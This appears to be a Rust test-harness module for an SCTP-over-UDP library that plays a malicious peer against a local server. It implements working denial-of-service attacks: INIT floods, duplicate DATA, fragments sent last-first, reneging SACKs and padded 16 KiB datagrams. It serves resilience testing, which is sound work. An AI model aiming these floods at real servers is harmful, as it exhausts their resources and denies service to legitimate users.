//! A malicious peer: completes the handshake, then sends the packets that are most expensive to
//! process.

use std::io;
use std::net::{SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// Chunk types (RFC 9260 §3.2).
const DATA: u8 = 0;
const INIT: u8 = 1;
const INIT_ACK: u8 = 2;
const SACK: u8 = 3;
const ABORT: u8 = 6;
const COOKIE_ECHO: u8 = 10;
const COOKIE_ACK: u8 = 11;
/// Chunk type of padding (RFC 4820).
const PAD: u8 = 0x84;
/// Parameter of INIT ACK that must be echoed (RFC 9260 §3.3.3.1).
const STATE_COOKIE: u16 = 7;
/// Flags of DATA: last fragment, first fragment (RFC 9260 §3.3.1).
const ENDING: u8 = 1;
const BEGINNING: u8 = 2;
/// First TSN of the attacker.
const FIRST_TSN: u32 = 1_000;
/// Payload protocol identifier of the request for the server's transfer, which `perf -R` sends.
const REQUEST: u32 = 0x616e_6172;

/// Attacks on a server.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// No attack, for comparison.
    None,
    /// INITs from 200 addresses at full speed.
    Inits,
    /// Duplicates of the same DATA at full speed.
    Repeats,
    /// Fragments of one message, last first, 70 per packet, at 8 Mbit/s.
    Fragments,
    /// SACKs that acknowledge 60,000 chunks by a gap block and then renege, 70 per packet, 60
    /// packets per second.
    Sacks,
    /// Packets of 16 KiB with 256 bytes of data after a gap, 2,000 per second.
    Pins,
}

impl Attack {
    /// All attacks; the first is no attack.
    pub const ALL: [Attack; 6] = [
        Attack::None,
        Attack::Inits,
        Attack::Repeats,
        Attack::Fragments,
        Attack::Sacks,
        Attack::Pins,
    ];

    /// Name of the attack in tables.
    pub fn name(self) -> &'static str {
        match self {
            Attack::None => "none",
            Attack::Inits => "INITs",
            Attack::Repeats => "repeated DATA",
            Attack::Fragments => "fragments, last first",
            Attack::Sacks => "SACKs that take back",
            Attack::Pins => "small DATA in large datagrams",
        }
    }

    /// Whether the attacker sends at full speed. It then occupies a processor that the server and
    /// its other clients cannot use.
    pub fn takes_a_processor(self) -> bool {
        matches!(self, Attack::Inits | Attack::Repeats)
    }

    /// Attacks until `over` is set; returns the number of bytes sent. Packets at full speed are
    /// sent to `aim`, which is the server or a socket without a reader.
    ///
    /// # Errors
    /// A socket cannot be opened, or the server does not answer.
    pub fn run(
        self,
        server: SocketAddr,
        port: u16,
        aim: SocketAddr,
        over: &AtomicBool,
    ) -> io::Result<u64> {
        let attack = RunningAttack {
            server,
            port,
            aim,
            over,
        };
        match self {
            Attack::None => Ok(0),
            Attack::Inits => attack.inits(),
            Attack::Repeats => attack.repeats(),
            Attack::Fragments => attack.fragments(),
            Attack::Sacks => attack.sacks(),
            Attack::Pins => attack.pins(),
        }
    }
}

/// An association of the attacker with the server.
struct Peer {
    socket: UdpSocket,
    ports: [u16; 2],
    tag: u32,
}

/// A packet that contains these chunks.
fn packet(ports: [u16; 2], tag: u32, chunks: &[u8]) -> Vec<u8> {
    let mut packet = Vec::with_capacity(12 + chunks.len());
    packet.extend(ports[0].to_be_bytes());
    packet.extend(ports[1].to_be_bytes());
    packet.extend(tag.to_be_bytes());
    packet.extend([0; 4]);
    packet.extend(chunks);
    anabranch_wire::checksum::fill(&mut packet);
    packet
}

fn chunk(kind: u8, flags: u8, value: &[u8]) -> Vec<u8> {
    let mut chunk = vec![kind, flags];
    chunk.extend((4 + value.len() as u16).to_be_bytes());
    chunk.extend(value);
    chunk.resize(chunk.len().next_multiple_of(4), 0);
    chunk
}

fn init(tag: u32) -> Vec<u8> {
    let mut value = Vec::new();
    value.extend(tag.to_be_bytes());
    value.extend((1u32 << 24).to_be_bytes());
    value.extend([0xff; 4]);
    value.extend(FIRST_TSN.to_be_bytes());
    chunk(INIT, 0, &value)
}

fn data(tsn: u32, ssn: u16, flags: u8, ppid: u32, bytes: &[u8]) -> Vec<u8> {
    let mut value = Vec::new();
    value.extend(tsn.to_be_bytes());
    value.extend([0; 2]);
    value.extend(ssn.to_be_bytes());
    value.extend(ppid.to_be_bytes());
    value.extend(bytes);
    chunk(DATA, flags, &value)
}

fn sack(point: u32, gap: Option<[u16; 2]>) -> Vec<u8> {
    let mut value = Vec::new();
    value.extend(point.to_be_bytes());
    value.extend((1u32 << 24).to_be_bytes());
    value.extend(u16::from(gap.is_some()).to_be_bytes());
    value.extend([0; 2]);
    for bound in gap.into_iter().flatten() {
        value.extend(bound.to_be_bytes());
    }
    chunk(SACK, 0, &value)
}

fn word(bytes: &[u8], at: usize) -> Option<u32> {
    let bytes = bytes.get(at..at + 4)?.try_into().ok()?;
    Some(u32::from_be_bytes(bytes))
}

fn half(bytes: &[u8], at: usize) -> Option<u16> {
    let bytes = bytes.get(at..at + 2)?.try_into().ok()?;
    Some(u16::from_be_bytes(bytes))
}

/// Verification tag and cookie from a packet that starts with INIT ACK.
fn tag_and_cookie(packet: &[u8]) -> Option<(u32, Vec<u8>)> {
    if *packet.get(12)? != INIT_ACK {
        return None;
    }
    let tag = word(packet, 16)?;
    let mut at = 32;
    loop {
        let (kind, len) = (half(packet, at)?, usize::from(half(packet, at + 2)?));
        if kind == STATE_COOKIE {
            return Some((tag, packet.get(at + 4..at + len)?.to_vec()));
        }
        at += len.max(4).next_multiple_of(4);
    }
}

impl Peer {
    fn connect(server: SocketAddr, port: u16, number: u16) -> io::Result<Self> {
        let socket = UdpSocket::bind("127.0.0.1:0")?;
        socket.connect(server)?;
        socket.set_read_timeout(Some(Duration::from_millis(500)))?;
        let ports = [20_000 + number, port];
        let mut buffer = vec![0; 65_536];
        for _ in 0..20 {
            socket.send(&packet(ports, 0, &init(1 + u32::from(number))))?;
            let Ok(len) = socket.recv(&mut buffer) else {
                continue;
            };
            let Some((tag, cookie)) = tag_and_cookie(&buffer[..len]) else {
                continue;
            };
            socket.send(&packet(ports, tag, &chunk(COOKIE_ECHO, 0, &cookie)))?;
            let answer = socket.recv(&mut buffer);
            if answer.is_ok_and(|len| buffer[..len].get(12) == Some(&COOKIE_ACK)) {
                return Ok(Self { socket, ports, tag });
            }
        }
        Err(io::Error::other("the server does not answer the attacker"))
    }

    fn packet(&self, chunks: &[u8]) -> Vec<u8> {
        packet(self.ports, self.tag, chunks)
    }

    /// Sends a packet. If the send buffer is full, the packet is lost as in a network.
    fn send(&self, packet: &[u8]) -> u64 {
        self.socket.send(packet).unwrap_or(0) as u64
    }

    /// Receives responses of the server; returns the highest TSN in them, if any.
    fn drain(&self, buffer: &mut [u8]) -> Option<u32> {
        let mut highest = None;
        while let Ok(len) = self.socket.recv(buffer) {
            let mut at = 12;
            while let Some(size) = half(&buffer[..len], at + 2).filter(|&size| size >= 4) {
                if buffer[at] == DATA {
                    highest = word(&buffer[..len], at + 4).max(highest);
                }
                at += usize::from(size).next_multiple_of(4);
            }
        }
        highest
    }
}

/// State of an attack in progress.
struct RunningAttack<'a> {
    server: SocketAddr,
    port: u16,
    aim: SocketAddr,
    over: &'a AtomicBool,
}

impl RunningAttack<'_> {
    fn goes_on(&self) -> bool {
        !self.over.load(Ordering::Relaxed)
    }

    fn peer(&self, number: u16) -> io::Result<Peer> {
        let peer = Peer::connect(self.server, self.port, number)?;
        peer.socket.set_nonblocking(true)?;
        Ok(peer)
    }

    fn inits(&self) -> io::Result<u64> {
        let socket = |number: u8| {
            let socket = UdpSocket::bind(SocketAddr::from(([127, 0, 9, number], 0)))?;
            socket.connect(self.aim)?;
            socket.set_nonblocking(true)?;
            Ok(socket)
        };
        let sockets: Vec<UdpSocket> = (1..=200).map(socket).collect::<io::Result<_>>()?;
        let (mut sent, mut buffer) = (0, [0; 2_048]);
        for number in 0u32.. {
            if !self.goes_on() {
                break;
            }
            let socket = &sockets[number as usize % sockets.len()];
            let ports = [1 + (number % 60_000) as u16, self.port];
            let packet = packet(ports, 0, &init(1 + number));
            sent += socket.send(&packet).unwrap_or(0) as u64;
            while number % 16 == 0 && socket.recv(&mut buffer).is_ok() {}
        }
        Ok(sent)
    }

    fn repeats(&self) -> io::Result<u64> {
        // A different port for each target, because the association with the first target may still
        // exist.
        let peer = self.peer(1 + u16::from(self.aim == self.server))?;
        let whole = BEGINNING | ENDING;
        let packet = peer.packet(&data(FIRST_TSN, 0, whole, 0, &[7; 16]));
        peer.send(&packet);
        peer.socket.connect(self.aim)?;
        let (mut sent, mut buffer) = (0, vec![0; 65_536]);
        while self.goes_on() {
            for _ in 0..32 {
                sent += peer.send(&packet);
            }
            peer.drain(&mut buffer);
        }
        Ok(sent)
    }

    fn fragments(&self) -> io::Result<u64> {
        const COUNT: u32 = 65_000;
        let begin = Instant::now();
        let (mut sent, mut buffer) = (0, vec![0; 65_536]);
        for number in 1.. {
            let peer = self.peer(number)?;
            let mut next = COUNT - 1;
            while next > 70 && self.goes_on() {
                let piece = |back| {
                    let offset = next - back;
                    let flags = if offset == COUNT - 1 { ENDING } else { 0 };
                    data(FIRST_TSN + offset, 0, flags, 0, b"x")
                };
                let chunks: Vec<u8> = (0..70).flat_map(piece).collect();
                next -= 70;
                sent += peer.send(&peer.packet(&chunks));
                peer.drain(&mut buffer);
                wait_for(begin, sent, 8e6);
            }
            peer.send(&peer.packet(&chunk(ABORT, 0, &[])));
            if !self.goes_on() {
                break;
            }
        }
        Ok(sent)
    }

    fn sacks(&self) -> io::Result<u64> {
        let peer = self.peer(1)?;
        let request = b"anabranch source 1 message=1 bytes=0 unordered=0";
        let request = data(FIRST_TSN, 0, BEGINNING | ENDING, REQUEST, request);
        peer.send(&peer.packet(&request));
        let (mut sent, mut buffer) = (0, vec![0; 65_536]);
        // Acknowledges data until the server's window is large, and then stops, so that many chunks
        // are in flight.
        let (mut point, mut highest) = (None, None);
        for round in 0..500 {
            highest = peer.drain(&mut buffer).max(highest);
            if round < 300
                && let Some(tsn) = highest
            {
                point = highest;
                sent += peer.send(&peer.packet(&sack(tsn, None)));
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        let (Some(point), Some(highest)) = (point, highest) else {
            return Err(io::Error::other("the server sends nothing to the attacker"));
        };
        let flying = highest.wrapping_sub(point).min(60_000) as u16;
        let (given, taken) = (sack(point, Some([2, flying.max(2)])), sack(point, None));
        let both = [given, taken].concat();
        let packet = peer.packet(&both.repeat(35));
        while self.goes_on() {
            sent += peer.send(&packet);
            peer.drain(&mut buffer);
            std::thread::sleep(Duration::from_micros(16_667));
        }
        peer.send(&peer.packet(&chunk(ABORT, 0, &[])));
        Ok(sent)
    }

    fn pins(&self) -> io::Result<u64> {
        let peer = self.peer(1)?;
        let (mut sent, mut buffer) = (0, vec![0; 65_536]);
        let begin = Instant::now();
        for offset in 1..16_000u32 {
            if !self.goes_on() {
                break;
            }
            let whole = BEGINNING | ENDING;
            let mut chunks = data(FIRST_TSN + offset, offset as u16, whole, 0, &[7; 256]);
            chunks.extend(chunk(PAD, 0, &[0; 16_000]));
            sent += peer.send(&peer.packet(&chunks));
            peer.drain(&mut buffer);
            wait_for(begin, u64::from(offset), 8.0 * 2_000.0);
        }
        while self.goes_on() {
            std::thread::sleep(Duration::from_millis(10));
            peer.drain(&mut buffer);
        }
        Ok(sent)
    }
}

/// Waits until `bytes` may have been sent at `rate` bit/s.
fn wait_for(begin: Instant, bytes: u64, rate: f64) {
    let due = begin + Duration::from_secs_f64(bytes as f64 * 8.0 / rate);
    std::thread::sleep(due.saturating_duration_since(Instant::now()));
}
